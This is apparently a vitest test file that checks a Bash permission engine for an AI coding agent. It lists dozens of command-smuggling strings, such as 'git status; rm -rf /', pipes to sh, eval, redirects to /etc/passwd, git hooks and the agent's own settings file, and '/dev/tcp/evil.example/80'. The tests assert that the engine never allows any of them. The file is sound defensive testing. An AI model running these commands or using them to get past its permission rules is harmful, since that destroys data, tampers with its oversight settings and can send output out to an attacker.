import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createNodeShellParser } from "../node/shell-parser.ts";
import type { ShellParser } from "./shell/shell-parser.ts";
import { createHarness, tools, type Harness } from "./test-fixtures.ts";

let parser: ShellParser;
let harness: Harness;
beforeAll(async () => {
  parser = await createNodeShellParser();
  harness = createHarness({ parser, layers: [{ source: "projectSettings", settings: { permissions: { allow: ["Bash(git status:*)", "Bash(ls:*)"] } } }] });
});
afterAll(() => parser.dispose());

const decide = (command: string) => harness.engine.check(harness.args(tools.Bash, { command }));

// Each tries to run something beyond `git status` / `ls` (and beyond the read-only list).
const smuggling: string[] = [
  "git status; rm -rf /",
  "git status;rm x",
  "git status && rm -rf x",
  "git status || rm -rf x",
  "git status & rm x",
  "git status\nrm x",
  "git status\n\nrm x",
  'ls "x"\nrm y',
  "git  status ;  rm x",
  "git\tstatus;rm x",
  "git status | sh",
  "git status | bash",
  "git status 2>&1 | sh",
  "git status | xargs rm",
  "ls | xargs -n1 rm",
  "git status $(rm x)",
  "git status `rm x`",
  'git status "$(rm x)"',
  "git status $(echo; rm x)",
  "ls $((1+$(rm x)))",
  "ls <(rm x)",
  "ls >(rm x)",
  "ls > >(rm x)",
  "git status <<< $(rm x)",
  "(git status; rm x)",
  "{ git status; rm x; }",
  'eval "git status; rm x"',
  "ls && eval rm x",
  'bash -c "git status; rm x"',
  "sh -c 'rm x'",
  "ls && bash -lc 'rm x'",
  "ls && env sh -c 'rm x'",
  "ls && env -S 'rm x'",
  "ls <<EOF | sh\nrm x\nEOF",
  "ls && sh <<EOF\nrm x\nEOF",
  "ls && bash < script.sh",
  "ls && find . -delete",
  "ls && find . -exec rm {} \\;",
  "ls && find . -execdir rm {} +",
  "ls && find . -ok rm {} \\;",
  "git status > /etc/passwd",
  "git status > ~/.bashrc",
  "git status >> ../outside.txt",
  "git status > /tmp/$(whoami)",
  "ls > /dev/sda",
  "ls 2> /dev/tcp/evil.example/80",
  "git status > .git/hooks/pre-commit",
  "ls > .claude/settings.local.json",
  "ls | tee /etc/x",
  "ls; $CMD",
  "ls; ${X:-rm} x",
  "X=rm; $X x",
  "ls && env rm x",
  "ls && timeout 5 rm x",
  "ls && nice -n 5 rm x",
  "ls && command rm x",
  "ls && exec rm x",
  "ls && source ./evil.sh",
  "ls && . ./evil.sh",
  "ls; alias ls='rm -rf'",
  "ls && hash -p /tmp/evil git",
  "LD_PRELOAD=/tmp/evil.so git status",
  "PATH=/tmp/evil:$PATH git status",
  "GIT_EXTERNAL_DIFF=/tmp/evil git status",
  "ls && /bin/rm x",
  "ls && \\rm x",
  "ls && r\\m x",
  'ls && "rm" x',
  "ls \\\\; rm x",
  "git status; function f { rm x; }; f",
  "if git status; then rm x; fi",
  "for i in 1; do rm x; done",
  "git status && [[ $(rm x) ]]",
  "ls ((",
  "git status\r\nrm x",
  "ls\u00a0; rm x",
  "git status; nohup rm x &",
  "ls && sudo rm x",
  "ls && cd / && rm -rf ./*",
  "git status && watch rm x",
  "ls > listing.txt",
  "ls >> logs/listing.txt 2>&1",
];

describe("commands smuggling a second command past Bash(git status:*) and Bash(ls:*)", () => {
  test(`the corpus has at least 40 commands (${smuggling.length})`, () => {
    expect(smuggling.length).toBeGreaterThanOrEqual(40);
  });

  test.each(smuggling)("%j is never allowed", async (command) => {
    const result = await decide(command);
    expect(result.behavior, JSON.stringify(result.reason)).not.toBe("allow");
  });
});

describe("plainly matching commands are allowed", () => {
  test.each([
    "git status",
    "git status --short",
    "git status -s -- src",
    "  git status  ",
    "ls",
    "ls -la src",
    "ls  -la",
    'ls "my dir"',
    'ls "a\\nb"',
    "ls 'a\nb'",
    "ls '$(rm x)'",
    "ls # ; rm x",
    "git status && ls -la",
    "git status; ls",
    "git status | head -5",
    "ls > /dev/null 2>&1",
    "ls 2>/dev/null >&2",
    "LANG=C ls",
    "timeout 10 git status",
    "ls *.ts",
  ])("%j", async (command) => {
    const result = await decide(command);
    expect(result.behavior, JSON.stringify(result.reason)).toBe("allow");
    expect(result.reason.type).toBe("rule");
  });

  test("a rule on a prefix does not match a longer word", async () => {
    expect((await decide("lsof -i")).behavior).toBe("ask");
    expect((await decide("git statusx")).behavior).toBe("ask");
  });
});
